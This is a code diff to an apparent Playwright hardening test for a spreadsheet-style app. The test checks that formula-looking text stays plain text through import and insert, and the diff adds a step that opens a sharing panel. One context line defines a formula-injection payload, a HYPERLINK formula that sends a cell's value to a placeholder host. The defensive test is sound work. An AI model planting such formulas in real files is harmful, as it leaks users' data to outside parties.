@@ -8,6 +8,7 @@ import type { Page } from "playwright-core";
 import type { PlanInput } from "../../src/core/planSchema";
 import { cell, goTo, textOf, typeInto } from "./grid";
 import { openPreview, saveScreenshot, startPreview, type Preview, type PreviewPage } from "./harness";
+import { openPanel } from "./panels";
 import { at, readTemplate } from "./template";
 
 const LEAK = '=HYPERLINK("http://x.invalid/?x="&J7,"open")';
@@ -70,6 +71,7 @@ describe("hardening: formula-looking text stays text through import, insert, re-
     current = await openPreview(preview, "en-US");
     const { page, errors } = current;
 
+    await openPanel(page, "Sharing and other plans");
     await page.getByRole("textbox", { name: "Or paste the plan file's text" }).fill(JSON.stringify(PLAN, null, 2));
     await page.getByRole("button", { name: "Read pasted text" }).click();
     await page.getByText(`Using “${PLAN.title.en}” (6 indicators)`, { exact: false }).waitFor();
